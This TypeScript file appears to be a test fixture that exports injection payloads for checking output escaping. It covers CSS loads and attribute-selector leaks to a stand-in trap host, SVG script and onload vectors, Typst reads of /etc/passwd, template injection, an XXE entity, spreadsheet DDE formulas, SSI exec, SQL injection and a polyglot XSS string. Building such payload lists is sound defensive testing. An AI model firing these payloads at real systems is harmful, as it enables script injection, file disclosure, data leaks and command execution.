import { CALLS, TRAP } from './marks'

/** Style sheets: what an unescaped colour or name would load or cover. */
const CSS_VALUES = [
  `red;background:url(${TRAP}/c.png)`,
  `#fff;}body{background:url(${TRAP}/d.png)}`,
  `#000}</style><script>alert(1)</script>`,
  `expression(alert(1))`,
  `url("javascript:alert(1)")`,
  `\\75rl(${TRAP}/e)`,
  `var(--x,url(${TRAP}/f))`,
  `image-set("${TRAP}/g" 1x)`,
  `-moz-binding:url(${TRAP}/h#x)`,
  `behavior:url(${TRAP}/i)`,
  `@import "${TRAP}/j.css";`,
  `@import url(${TRAP}/k.css);`,
  `@font-face{font-family:x;src:url(${TRAP}/l)}`,
  `*{position:fixed;inset:0;background:#000}`,
  `input[value^=a]{background:url(${TRAP}/m)}`,
  `/**/*/;}*{display:none}/*`,
] as const
const css = CSS_VALUES.flatMap((value) => [value, `<style>${value}</style>`, `<p style='${value}'>x</p>`])

/** Drawings: scripts, frames and loads inside SVG. */
const SVG_PARTS = [
  '<script>alert(1)</script>',
  `<script href="${TRAP}/x.js"/>`,
  '<script xlink:href="data:text/javascript,alert(1)"/>',
  '<a xlink:href="javascript:alert(1)"><rect width="99" height="99"/></a>',
  `<image href="${TRAP}/x.png"/>`,
  `<use href="${TRAP}/x.svg#a"/>`,
  '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/>',
  '<foreignObject><iframe srcdoc="<script>alert(1)</script>"/></foreignObject>',
  '<animate onbegin=alert(1) attributeName=x dur=1s>',
  '<set attributeName=onmouseover to=alert(1)>',
  '<handler type="text/javascript">alert(1)</handler>',
  `<feImage href="${TRAP}/x"/>`,
  `<style>@import url(${TRAP}/x.css)</style>`,
  '<title><img src=x onerror=alert(1)></title>',
  '<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>',
] as const
const svg = SVG_PARTS.flatMap((part) => [
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${part}</svg>`,
  `<svg viewBox="0 0 9 9" onload="alert(1)">${part}<path d="M0 0h9v9z"/></svg>`,
])

/** Typst: code, files, packages, raw blocks and what ends a string or a content block. */
const typst = [
  '#eval("1+1")',
  '#read("/etc/passwd")',
  '#image("/etc/passwd")',
  '#include "/etc/passwd"',
  '#import "@preview/cetz:0.3.0": *',
  '#plugin("x.wasm")',
  '#sys.inputs',
  '#panic("x")',
  '#while true {}',
  '#let x = 1; #x',
  '#set page(width: 1pt)',
  '#show: it => none',
  '] #read("/etc/passwd") [',
  '")\n#read("/etc/passwd")',
  '\\u{23}read("/etc/passwd")',
  '$ integral $',
  '`#eval("1")`',
  '```typ #read("x")```',
  `#link("${TRAP}")[x]`,
  `#link("javascript:alert(1)")[x]`,
  '<label> @label',
  '*bold* _it_ = Head',
  '// comment',
  '/* comment',
] as const

/** Templates of other tools, feeds, headers, spreadsheets and calendars. */
const formats = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, not a template
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{constructor.constructor("alert(1)")()}}',
  ']]></content><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e',
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("https://trap.invalid")',
  '@SUM(1+1)',
  'END:VEVENT\\nBEGIN:VEVENT',
  '"><!--#exec cmd="ls"-->',
  '__proto__',
  'constructor',
  '\u202Etxt.exe',
  '\uFEFF<script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '"; DROP TABLE partner; --',
  "' OR '1'='1",
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
] as const

const globals = CALLS.flatMap((call) => [
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `\`;${call};//`,
  `</script><script>${call}//`,
])

export const OTHERS: readonly string[] = [...css, ...svg, ...typst, ...formats, ...globals]
